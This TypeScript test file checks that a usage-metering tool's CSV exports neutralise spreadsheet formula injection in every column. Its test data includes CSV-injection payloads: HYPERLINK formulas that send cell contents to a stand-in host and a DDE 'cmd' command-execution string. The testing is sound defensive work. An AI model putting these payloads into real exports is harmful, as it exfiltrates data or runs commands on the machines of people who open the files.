import { describe, expect, it } from 'vitest';
import { csvCell, defuseFormula, toCsv } from '../../src/csv.js';
import { auditCsv, requestsCsv } from '../../src/dashboard/csv-exports.js';
import { renderUsage } from '../../src/metering/usage-report.js';
import type { UsageRecord, UsageRow } from '../../src/store/types.js';
import { formulaCells, parseCsv } from '../helpers/csv-parse.js';

const FORMULAS = [
  '=HYPERLINK("http://evil.example","m")',
  '+1',
  '-1+HYPERLINK("https://evil/?"&A2,"x")',
  '@SUM(A1)',
  '\t=1',
  '\r=1+1',
];

describe('CSV cells from client text', () => {
  it('prefixes anything a spreadsheet would run as a formula, a leading minus included', () => {
    for (const cell of [...FORMULAS, "-2+cmd|' /C calc'!A0", '-x'])
      expect(defuseFormula(cell)).toBe(`'${cell}`);
  });

  it('leaves plain numbers, negative ones included, and ordinary text alone', () => {
    for (const cell of ['-1', '-0.25', '42', '0.001890', 'OpenAI/JS 6.1', ''])
      expect(defuseFormula(cell)).toBe(cell);
  });

  it('quotes a bare CR like LF, so a reason cannot start a new row with a formula', () => {
    expect(csvCell('ok\r=1+1')).toBe('"ok\r=1+1"');
    const rows = parseCsv(
      toCsv([
        ['reason', 'result'],
        ['ok\r=1+1', 'ok'],
      ]),
    );
    expect(rows).toEqual([
      ['reason', 'result'],
      ['ok\r=1+1', 'ok'],
    ]);
  });
});

describe('every CSV export, every column', () => {
  const each = <T>(make: (formula: string) => T): T[] => FORMULAS.map(make);

  it('defuses a formula in any text column of requests.csv', () => {
    const records = each(
      (f): UsageRecord => ({
        requestId: f,
        ts: 0,
        day: f,
        key: f,
        model: f,
        upstream: f,
        route: f,
        status: 404,
        errorCode: f,
        inputTokens: 0,
        outputTokens: 0,
        cachedTokens: 0,
        costUsd: 0,
        latencyMs: 0,
        stream: false,
        userAgent: f,
        ip: f,
        configRevision: f,
        usageSource: 'none',
        requestedModel: f,
        keyHash: f,
      }),
    );
    const rows = parseCsv(requestsCsv(records, 'UTC'));
    expect(rows).toHaveLength(FORMULAS.length + 1);
    expect(formulaCells(rows)).toEqual([]);
  });

  it('defuses a formula in any column of audit.csv', () => {
    const entries = each((f) => ({
      at: 0,
      actor: f,
      source: 'dashboard' as const,
      action: f,
      key: f,
      reason: f,
      result: f,
    }));
    const rows = parseCsv(auditCsv(entries, 'UTC'));
    expect(rows).toHaveLength(FORMULAS.length + 1);
    expect(formulaCells(rows)).toEqual([]);
  });

  it('defuses a formula in the first column of tollgate usage --format csv, by every grouping', () => {
    for (const by of ['key', 'model', 'day', 'group', 'hash'] as const) {
      const usageRows = each(
        (f): UsageRow => ({
          key: f,
          group: f,
          model: f,
          day: f,
          hash: f,
          last_used: f,
          requests: 1,
          errors: -1,
          input_tokens: 1,
          output_tokens: 1,
          cost_usd: -0.5,
        }),
      );
      const rows = parseCsv(renderUsage(usageRows, by, 'csv'));
      expect(rows, by).toHaveLength(FORMULAS.length + 1);
      expect(formulaCells(rows), by).toEqual([]);
      expect(rows[1]?.[0], by).toBe(`'${FORMULAS[0]}`);
    }
  });
});
